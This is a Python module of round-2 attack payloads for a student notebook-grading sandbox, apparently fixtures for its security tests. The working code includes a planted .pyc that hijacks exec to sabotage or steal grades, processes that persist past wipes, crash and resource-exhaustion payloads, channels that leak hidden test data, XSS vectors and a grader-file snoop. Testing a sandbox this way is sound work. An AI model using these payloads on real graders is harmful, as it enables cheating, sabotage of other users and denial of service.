"""The code of each round-2 attack, as a student would put it into a notebook cell.

Every attack leaves a marker its test observes, so that a test can tell "the attack was stopped" from
"the attack did not run": the attacker's own cell prints what it did, or a later honest notebook shows
what the attack planted (only if the attack worked). Placeholders: @RIGHT@ (correct solutions of
02_svm_loss, as the attacker wrote them), @PLANTED@ (the module the attack plants).
"""

from __future__ import annotations

# The module planted as a compiled `checks` (an unchecked-hash .pyc in /scratch/__pycache__): every later
# notebook's `import checks` (cell 2 of 02_svm_loss) runs it. It wraps builtins.exec, which the sandbox uses
# to run each cell: after a cell defines the graded functions they are replaced, by wrong ones for a
# student who wrote code (sabotage) and by correct ones for a student who wrote nothing (theft of points).
PLANTED = '''
import builtins

print("PLANTED-BY-ANOTHER-STUDENT")
_exec = builtins.exec
_RIGHT = @RIGHT@
_WRONG = {
    "svm_loss_single": "def svm_loss_single(s, y):\\n    return 0.0\\n",
    "svm_losses": "def svm_losses(S, y):\\n    return np.zeros(S.shape[1])\\n",
}


def _planting_exec(code, namespace=None, *rest):
    result = _exec(code, namespace, *rest)
    if isinstance(namespace, dict) and namespace.get("__name__") == "__main__":
        for name in ("svm_loss_single", "svm_losses", "svm_loss"):
            function = namespace.get(name)
            code_of = getattr(function, "__code__", None)
            if code_of is None or getattr(function, "planted", False):
                continue
            blank = "NotImplementedError" in code_of.co_names
            replacement = _RIGHT[name] if blank else _WRONG.get(name)
            if replacement:
                _exec(replacement, namespace)
                namespace[name].planted = True
    return result


builtins.exec = _planting_exec
'''

# Compiles PLANTED into what `import checks` loads from /scratch without looking at checks.py.
_COMPILE_PLANTED = '''import importlib.util
from importlib._bootstrap_external import _code_to_hash_pyc

PLANTED_SOURCE = @PLANTED@
PYC = importlib.util.cache_from_source("/scratch/checks.py")
PYC_DATA = _code_to_hash_pyc(compile(PLANTED_SOURCE, "/scratch/checks.py", "exec"),
                             importlib.util.source_hash(b""), False)
'''

# A process whose main thread ended with a raw exit syscall while a second thread runs: its state is Z
# (a zombie, to anyone who reads /proc/PID/stat), but the thread lives on and plants PLANTED after every wipe.
ZOMBIE_SURVIVOR = _COMPILE_PLANTED + '''import ctypes
import os
import threading
import time

SYS_EXIT = {"x86_64": 60, "aarch64": 93}[os.uname().machine]


def replant():
    while True:
        try:
            if not os.path.exists(PYC):
                os.makedirs(os.path.dirname(PYC), exist_ok=True)
                with open(PYC, "wb") as handle:
                    handle.write(PYC_DATA)
        except OSError:
            pass
        time.sleep(0.001)


pid = os.fork()
if pid == 0:
    os.setsid()
    threading.Thread(target=replant).start()
    ctypes.CDLL(None).syscall(SYS_EXIT, 0)  # ends the main thread only
    os._exit(0)
time.sleep(0.5)
try:
    with open(f"/proc/{pid}/stat") as stat:
        state = stat.read().rsplit(")", 1)[1].split()[0]
    threads = len(os.listdir(f"/proc/{pid}/task"))
except OSError as error:
    state = threads = type(error).__name__
print(f"ZOMBIE-ARMED planted={os.path.exists(PYC)} state={state} threads={threads}")
'''

# Ten lines, no process: a folder made read-only survives a wipe that runs as the student's own uid.
READONLY_PYCACHE = _COMPILE_PLANTED + '''import os

os.makedirs(os.path.dirname(PYC), exist_ok=True)
with open(PYC, "wb") as handle:
    handle.write(PYC_DATA)
os.chmod(os.path.dirname(PYC), 0o555)
os.makedirs("/tmp/kept", exist_ok=True)
open("/tmp/kept/payload", "w").write("x")
os.chmod("/tmp/kept", 0o555)
folder = os.path.dirname(PYC)
print("WIPE-ARMED", oct(os.stat(folder).st_mode & 0o777), sorted(os.listdir(folder)))
'''

# Two cells: the first replaces the sandbox's send so that the reply to the second cell is a JSON array
# nested 200,000 deep (the trusted side's json.loads raises RecursionError).
NESTED_ARM = '''import codec
import struct

_send = codec.send


def nested_send(sock, message):
    if "NEST-TRIGGER" in str(message.get("stdout", "")):
        body = b"[" * 200_000 + b"]" * 200_000
        sock.sendall(struct.pack("!I", len(body)) + body)
    else:
        _send(sock, message)


codec.send = nested_send
print("NEST-ARMED")
'''
NESTED_TRIGGER = 'print("NEST-TRIGGER")'

# precision and recall that only call each other: each is right if the other is, and neither can run.
RECURSION_PAIR = {
    "precision": "def precision(y_true, y_pred):\n    return recall(y_pred, y_true)\n",
    "recall": "def recall(y_true, y_pred):\n    return precision(y_pred, y_true)\n",
}
RECURSION_PROOF = '''try:
    precision(np.array([1, 0]), np.array([1, 1]))
    print("PAIR-RUNS")
except RecursionError as error:
    print("PAIR-RECURSES", type(error).__name__)
'''

# Correct solutions of 02_svm_loss that carry what hidden tests hand them from one test cell to another:
# through directory names (/tmp, /dev/shm), symlink targets, file times and a process serving a socket. In
# its first visible call each test-cell process checks that the channels work inside it (LEAKSELF) and
# prints what earlier test cells left (LEAKPROBE): with isolated test cells, nothing.
LEAK_CHANNELS = '''import os
import socket
import time

CHANNELS = ("tmp-dir", "shm-dir", "symlink", "mtime", "socket")
SOCKET = "\\0leak-between-test-cells"
_probed = []  # the processes that probed already
in_tests = []  # the notebook's last cell appends to it: every later call comes from a test cell


def _serve():
    server = socket.socket(socket.AF_UNIX)
    server.bind(SOCKET)
    server.listen(8)
    kept = []
    while True:
        connection, _ = server.accept()
        data = connection.recv(65536)
        if data == b"?":
            connection.sendall(repr(kept).encode())
        else:
            kept.append(data.decode())
        connection.close()


def _ask(data):
    for _ in range(50):
        try:
            with socket.socket(socket.AF_UNIX) as client:
                client.connect(SOCKET)
                client.sendall(data)
                return client.recv(65536).decode()
        except OSError:
            time.sleep(0.01)
    return None


def _put(channel, text):
    count = len(os.listdir("/scratch"))
    if channel == "tmp-dir":
        os.makedirs(f"/tmp/chan-{text}", exist_ok=True)
    elif channel == "shm-dir":
        os.makedirs(f"/dev/shm/chan-{text}", exist_ok=True)
    elif channel == "symlink":
        os.symlink(f"chan-{text}", f"/scratch/chan-link-{count}")
    elif channel == "mtime":
        path = f"/scratch/chan-time-{count}-{text[:4]}"
        open(path, "w").close()
        os.utime(path, (1000 + count, 1000 + count))
    elif channel == "socket":
        if _ask(b"?") is None and os.fork() == 0:
            os.setsid()
            try:
                _serve()
            finally:
                os._exit(0)
        _ask(text.encode())


def _get(channel):
    found = []
    try:
        if channel == "tmp-dir":
            found = [n for n in os.listdir("/tmp") if n.startswith("chan-")]
        elif channel == "shm-dir":
            found = [n for n in os.listdir("/dev/shm") if n.startswith("chan-")]
        elif channel == "symlink":
            links = [n for n in os.listdir("/scratch") if n.startswith("chan-link")]
            found = [os.readlink(f"/scratch/{n}") for n in links]
        elif channel == "mtime":
            found = [f"{n}@{os.stat('/scratch/' + n).st_mtime:.0f}" for n in os.listdir("/scratch")
                     if n.startswith("chan-time")]
        elif channel == "socket":
            found = [_ask(b"?") or "[]"]
    except OSError as error:
        found = [type(error).__name__]
    return found


def _safely(function, *args):
    try:
        return function(*args)
    except Exception as error:
        return [type(error).__name__]


def _probe_once(tag):
    if not in_tests or os.getpid() in _probed:
        return
    _probed.append(os.getpid())
    for channel in CHANNELS:
        print(f"LEAKPROBE {tag} {channel}: {_safely(_get, channel)}")
        _safely(_put, channel, "SELF" + tag)
        works = any("SELF" + tag in entry for entry in _safely(_get, channel))
        print(f"LEAKSELF {tag} {channel}: {'works' if works else 'fails'}")


def svm_loss_single(s, y):
    if len(s) == 3:
        _probe_once("single")
    elif in_tests:
        secret = "HIDDEN" + "LEAK-" + "_".join(f"{v:.3f}" for v in s) + f"-y{y}"
        for channel in CHANNELS:
            _safely(_put, channel, secret)
    margins = np.maximum(0, s - s[y] + 1)
    margins[y] = 0
    return np.sum(margins)


def svm_losses(S, y):
    if S.shape == (3, 3):
        _probe_once("losses")
    columns = np.arange(S.shape[1])
    margins = np.maximum(0, S - S[y, columns] + 1)
    margins[y, columns] = 0
    return np.sum(margins, axis=0)


def svm_loss(S, y):
    if S.shape == (3, 3):
        _probe_once("loss")
    return np.mean(svm_losses(S, y))
'''
LEAK_LAST_CELL = "in_tests.append(True)"

# A wrong svm_loss_single whose error message pretends to be a diagnosis: the class report must not list
# it as a "diagnosed mistake" (it is the student's own text).
FAKE_MISTAKE = '''def svm_loss_single(s, y):
    raise ValueError("look\\nThis matches a known mistake: FAKE-MISTAKE-BY-STUDENT <b>bold</b>.")
'''

# A forward_propagation that first asks the trusted side to run the reference layer_forward on
# arrays that make a 1.25e8-element outer product (1 GB), then computes the right answer.
REFERENCE_BOMB = '''def forward_propagation(X, W1, b1, W2, b2):
    if getattr(layer_forward, "__name__", "") == "call_trusted" and not globals().get("_bombed"):
        globals()["_bombed"] = True
        n = 11_180
        try:
            layer_forward(np.ones((n, 1)), np.zeros(n), np.ones((1, n)), lambda z: 0.0)
            print("BOMB-SENT: the reference ran")
        except BaseException as error:
            print("BOMB-SENT: the reference refused:", type(error).__name__)
    z_a = layer_forward(W1, b1, X, lambda z: z)
    a = sigmoid(z_a)
    z_p = layer_forward(W2, b2, a, lambda z: z)
    return sigmoid(z_p), {"z_a": z_a, "a": a, "z_p": z_p}
'''

# A forward_propagation that keeps the trusted side multiplying integer matrices (no BLAS: slow) for as
# long as the test lets it; under a CPU-time limit (`ulimit -t`) this kills the grading worker process.
WORKER_KILLER = '''def forward_propagation(X, W1, b1, W2, b2):
    if getattr(layer_forward, "__name__", "") == "call_trusted":
        big = np.ones((900, 900), dtype=np.int64)
        calls = 0
        while True:
            try:
                layer_forward(big, np.zeros(900, dtype=np.int64), big, lambda z: 0)
            except BaseException:
                break
            calls += 1
        print("KILLER-STOPPED after", calls, "calls")
    z_a = layer_forward(W1, b1, X, lambda z: z)
    a = sigmoid(z_a)
    z_p = layer_forward(W2, b2, a, lambda z: z)
    return sigmoid(z_p), {"z_a": z_a, "a": a, "z_p": z_p}
'''

# Script in every place of a notebook that the feedback page renders from the student's notebook. Each
# vector, when it runs, appends its name to the page's title.
SCRIPT_VECTORS = {
    "script": '<script>document.title += " PWNED-script";</script>',
    "img-onerror": '<img src="x-missing.png" onerror="document.title += \' PWNED-img\'">',
    "svg-onload": '<svg onload="document.title += \' PWNED-svg\'"></svg>',
    "details-ontoggle": '<details open ontoggle="document.title += \' PWNED-details\'"><summary>s</summary>'
                        '</details>',
    "iframe-srcdoc": '<iframe srcdoc="<script>parent.document.title += \' PWNED-iframe\'</script>"></iframe>',
}
RAW_VECTOR = '<script>document.title += " PWNED-raw";</script>'

# Reads every file under the sandbox's Python paths and reports grader package files and solution code.
SNOOP_PACKAGE = '''import os
import sys

found = []
for root in sorted({p for p in sys.path if p and os.path.isdir(p)}):
    for folder, _, names in os.walk(root):
        for name in names:
            path = os.path.join(folder, name)
            if "grader" in path.split(os.sep) or "samples" in path.split(os.sep):
                found.append(path)
                continue
            if name.endswith(".py") and os.path.getsize(path) < 200_000:
                try:
                    text = open(path, errors="replace").read()
                except OSError:
                    continue
                if "margins[y] = 0" in text or "return np.argmax(S, axis=0)" in text:
                    found.append(path)
print("SNOOPED", len(sys.path), "paths; grader files:", found[:20])
'''
